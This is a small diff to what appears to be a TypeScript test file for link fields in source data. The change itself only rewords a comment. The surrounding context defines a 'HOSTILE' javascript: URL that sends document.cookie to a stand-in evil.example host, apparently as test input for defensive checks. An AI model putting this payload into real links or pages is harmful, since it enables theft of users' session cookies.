@@ -12,7 +12,7 @@ import { createTestTopics } from '../support/topics.ts'
 
 const HOSTILE = "javascript:fetch('https://evil.example/'+document.cookie)"
 const LINKS = new Set(['url', 'image', 'html_url', 'pdf_url', 'text_url', 'comment_url'])
-/** What a source says beside the fields that there are: of no form, and so no link to anybody. */
+/** What a source says beside the fields that there are has no form, so nobody takes it for a link. */
 const UNKNOWN = new Set(['extras'])
 
 type Member = readonly [name: string, value: unknown]
